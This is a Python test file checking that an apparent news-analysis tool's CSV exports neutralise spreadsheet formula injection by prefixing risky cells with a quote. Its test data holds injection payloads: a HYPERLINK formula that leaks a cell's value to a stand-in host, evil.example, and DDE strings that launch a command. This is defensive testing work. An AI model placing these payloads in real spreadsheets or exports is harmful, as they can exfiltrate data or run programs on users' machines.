"""CSV exports are safe in spreadsheets (issue 17, point 13): cells that a spreadsheet would run
as formulas get a leading quote (OWASP), numbers are untouched, Parquet keeps values exact."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq

from secnews.analysis.output import csv_text, neutralize_formula, write_csv, write_parquet

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "+1 555 0100",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _frame() -> pd.DataFrame:
    n = len(HOSTILE) + 1
    return pd.DataFrame(
        {
            "title": [*HOSTILE, "Idea of Euro-Atlantic Collective Security"],
            "outlet": pd.Categorical(["-2+3+cmd|' /C calc'!A0"] * n),
            "score": [-0.5] * n,
            "count": list(range(-3, n - 3)),
            "published": pd.to_datetime(["2022-02-24"] * n),
        }
    )


def test_neutralize_formula() -> None:
    assert [neutralize_formula(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert neutralize_formula("Security (TASS)") == "Security (TASS)"
    assert neutralize_formula(-3) == -3


def test_csv_cells_cannot_run_as_formulas(tmp_path: Path) -> None:
    frame = _frame()
    frame["=cmd|' /C calc'!A0"] = "x"  # a column named by the data (an outlet, a term)
    path = write_csv(frame, tmp_path / "summary.csv")
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    expected = ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert list(back["title"][:-1]) == expected  # a bare CR would have ended the row
    assert back["title"].iloc[-1] == "Idea of Euro-Atlantic Collective Security"
    assert set(back["outlet"]) == {"'-2+3+cmd|' /C calc'!A0"}
    assert set(back["score"]) == {"-0.5"}  # numbers stay numbers
    assert list(back["count"][:3]) == ["-3", "-2", "-1"]
    assert set(back["published"]) == {"2022-02-24"}
    assert "'=cmd|' /C calc'!A0" in back.columns
    assert len(back) == len(frame)
    assert frame["title"][0] == HOSTILE[0]  # the caller's frame is not changed


def test_neutralizing_can_be_turned_off_and_parquet_is_exact(tmp_path: Path) -> None:
    frame = _frame()
    assert csv_text(frame, neutralize=False).splitlines()[1].startswith('"=HYPERLINK')
    write_parquet(frame.astype({"outlet": str}), tmp_path / "t.parquet")
    back = pq.read_table(tmp_path / "t.parquet").to_pandas()
    assert list(back["title"][:-1]) == HOSTILE
